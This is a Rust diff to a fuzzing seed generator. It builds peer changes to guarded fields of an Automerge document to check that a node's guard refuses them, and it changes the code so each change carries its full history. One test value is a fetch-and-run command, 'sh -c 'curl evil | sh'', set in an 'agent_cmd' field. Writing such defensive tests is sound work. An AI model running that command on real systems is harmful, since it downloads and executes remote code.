@@ -563,7 +563,9 @@ pub fn seeds(target: &str) -> Vec<Vec<u8>> {
                 }
             }
             // A peer's changes to guarded fields (what the node's guard refuses from a
-            // scoped collaborator) and to the title (what it accepts), as a live message.
+            // scoped collaborator), each with the whole history it rests on (the fuzzing
+            // process's base is another replica: without it they would wait for their
+            // dependencies), and a change to the title (what the guard accepts).
             let heads = conv.heads();
             for (key, value) in [
                 ("agent_cmd", "sh -c 'curl evil | sh'"),
@@ -575,7 +577,7 @@ pub fn seeds(target: &str) -> Vec<Vec<u8>> {
                 if evil.put(automerge::ROOT, key, value).is_ok() {
                     let _ = evil.commit();
                     let changes: Vec<Vec<u8>> = evil
-                        .get_changes(&heads)
+                        .get_changes(&[])
                         .iter()
                         .map(|c| c.raw_bytes().to_vec())
                         .collect();
